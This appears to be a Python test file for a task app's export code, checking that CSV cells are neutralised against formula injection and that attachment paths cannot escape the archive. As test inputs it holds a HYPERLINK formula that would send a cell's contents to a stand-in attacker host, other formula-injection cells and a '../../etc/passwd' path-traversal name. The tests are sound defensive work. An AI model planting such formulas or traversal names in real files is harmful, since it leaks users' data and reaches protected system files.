"""Export writers: tasks.json, tasks.csv (spreadsheet-safe) and the streamed ZIP."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterable
from datetime import UTC, datetime

import pytest

from tasklane.domain.exchange.export import attachment_path
from tasklane.domain.exchange.model import ImportedTask, ImportFormat
from tasklane.domain.exchange.options import ImportOptions
from tasklane.domain.models import format_time
from tasklane.logic.exchange.archive import ExportFile, FileUnavailable, write_export
from tasklane.logic.exchange.export_csv import COLUMNS
from tasklane.logic.exchange.imports import parse_import
from tasklane.logic.exchange.spreadsheet import neutralise, unneutralise
from tasklane.settings import ImportLimits
from tests.unit.exchange import factory
from tests.unit.exchange.conftest import Parsed, bytes_source

PDF = b"%PDF-1.7 ok"


class NonSeekable:
    """A sink that can only be written to, as an S3 multipart upload is."""

    def __init__(self) -> None:
        self.buffer = io.BytesIO()
        self.writes = 0

    def write(self, data: bytes, /) -> int:
        self.writes += 1
        return self.buffer.write(data)

    def flush(self) -> None:
        return None


def _files(tasks: Iterable[factory.ExportTask], missing: bool = False) -> list[ExportFile]:
    def gone() -> Iterable[bytes]:
        raise FileUnavailable

    return [
        ExportFile(
            a.path or "",
            a.size,
            gone if missing else (lambda: iter([PDF[:4], PDF[4:]])),
            datetime(2026, 10, 3, tzinfo=UTC),
        )
        for t in tasks
        for a in t.attachments
    ]


def _export(missing: bool = False) -> tuple[zipfile.ZipFile, NonSeekable]:
    sink = NonSeekable()
    tasks = factory.tasks()
    write_export(sink, factory.HEADER, factory.projects(), iter(tasks), _files(tasks, missing))
    return zipfile.ZipFile(io.BytesIO(sink.buffer.getvalue())), sink


def test_the_zip_streams_to_a_sink_that_cannot_seek() -> None:
    archive, sink = _export()
    assert archive.testzip() is None  # every member's CRC checks
    (path,) = [a.path for t in factory.tasks() for a in t.attachments]
    assert archive.namelist() == ["tasks.json", "tasks.csv", path]
    assert archive.read(path) == PDF
    assert sink.writes > 3


def test_tasks_json_holds_every_field() -> None:
    archive, _ = _export()
    document = json.loads(archive.read("tasks.json"))
    assert document["format"] == "tasklane-export"
    assert document["version"] == 1
    assert document["projects"] == [p.model_dump(mode="json") for p in factory.projects()]
    assert document["tasks"] == [t.model_dump(mode="json") for t in factory.tasks()]


def test_tasks_csv_is_one_row_per_task_and_formula_safe() -> None:
    archive, _ = _export()
    raw = archive.read("tasks.csv")
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM for UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == 3
    assert list(rows[0]) == list(COLUMNS)
    assert rows[0]["project"] == "Launch 🚀"
    assert rows[0]["checklist"] == "[x] Draft\n[ ] Review"
    assert rows[0]["labels"] == "marketing, écrit"
    assert rows[1]["title"] == '\'=HYPERLINK("https://evil.example/?"&A1)'
    assert rows[2]["title"] == "'+1 for this"
    assert rows[2]["description"] == "'-minus first\n@at"
    assert rows[2]["archived"] == "yes"
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff1d1", "'\uff1d1"),
        ("a=1", "a=1"),
        ("", ""),
        ("'=x", "'=x"),
    ],
)
def test_neutralise(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe
    if safe != cell:
        assert unneutralise(safe) == cell


def test_a_file_gone_since_listing_is_listed_in_missing_files() -> None:
    archive, _ = _export(missing=True)
    (path,) = [a.path for t in factory.tasks() for a in t.attachments]
    assert path not in archive.namelist()
    assert path in archive.read("missing-files.txt").decode()


def test_attachment_paths_cannot_escape_the_archive() -> None:
    path = attachment_path("t-1", "a1", "../../etc/passwd")
    assert path == "attachments/t-1/a1-passwd"
    long = attachment_path("t-1", "a1", "x" * 400 + ".pdf")
    assert len(long.rsplit("/", 1)[1].encode()) <= 255
    assert long.endswith(".pdf")


def test_progress_is_reported() -> None:
    seen: list[int] = []
    tasks = [factory.task(i) for i in range(1, 8)]
    write_export(
        NonSeekable(),
        factory.HEADER,
        factory.projects(),
        tasks,
        (),
        on_progress=lambda r: seen.append(r.tasks),
        progress_every=3,
    )
    assert seen == [3, 6]


def test_round_trip_export_then_import_reproduces_every_task_field() -> None:
    archive, _ = _export()
    # The importer reads the ZIP itself (tasks.json inside it).
    data = NonSeekable()
    tasks = factory.tasks()
    write_export(data, factory.HEADER, factory.projects(), tasks, _files(tasks))
    parsed = Parsed(
        parse_import(
            bytes_source(data.buffer.getvalue()),
            ImportOptions(format=ImportFormat.tasklane),
            ImportLimits(),
        )
    )
    assert parsed.problems == []
    assert [(p.name, p.description, p.archived) for p in parsed.projects] == [
        (p.name, p.description, p.archived) for p in factory.projects()
    ]
    project_ids = {p.key: p.source_id for p in parsed.projects}
    assert len(parsed.tasks) == len(tasks)
    for exported, imported in zip(tasks, parsed.tasks, strict=True):
        assert _as_exported(imported, project_ids[imported.project_key]) == exported.model_dump(
            mode="json"
        )
    with_file = parsed.tasks[0].attachments[0]
    assert archive.read(with_file.path) == PDF


def _as_exported(task: ImportedTask, project_id: str) -> dict[str, object]:
    """The imported task in the export's shape: every field must map back."""
    origin = task.origin
    assert origin is not None
    assert origin.project_id == project_id
    return {
        "id": origin.id,
        "project_id": origin.project_id,
        "title": task.title,
        "description": task.description,
        "status": task.status.value,
        "priority": task.priority.value,
        "due_at": format_time(task.due_at) if task.due_at else None,
        "labels": task.labels,
        "created_at": origin.created_at,
        "updated_at": origin.updated_at,
        "completed_at": origin.completed_at,
        "created_by": origin.created_by,
        "updated_by": origin.updated_by,
        "assignee_id": origin.assignee_id,
        "version": origin.version,
        # Board positions are not imported: imported tasks join the end of their column in
        # the file's order (their new ids' creation keys), and these tasks have none.
        "position": None,
        "checklist": [item.model_dump() for item in task.checklist],
        "checklist_progress": {
            "done": sum(item.done for item in task.checklist),
            "total": len(task.checklist),
        },
        # Not carried by an import yet: a series (issue 17) and trash marks (these tasks are
        # live and not repeating).
        "recurrence": None,
        "deleted_at": None,
        "deleted_by": None,
        "purge_at": None,
        "comments": [
            {
                "id": c.source_id,
                "author_id": c.author,
                "body": c.body,
                "created_at": format_time(c.created_at) if c.created_at else None,
                "updated_at": format_time(c.updated_at) if c.updated_at else None,
                "version": c.version,
            }
            for c in task.comments
        ],
        "attachments": [
            {
                "id": a.id,
                "file_name": a.file_name,
                "size": a.size,
                "content_type": a.content_type,
                "created_at": a.created_at,
                "created_by": a.created_by,
                "path": a.path,
            }
            for a in task.attachments
        ],
        "archived": task.archived,
    }
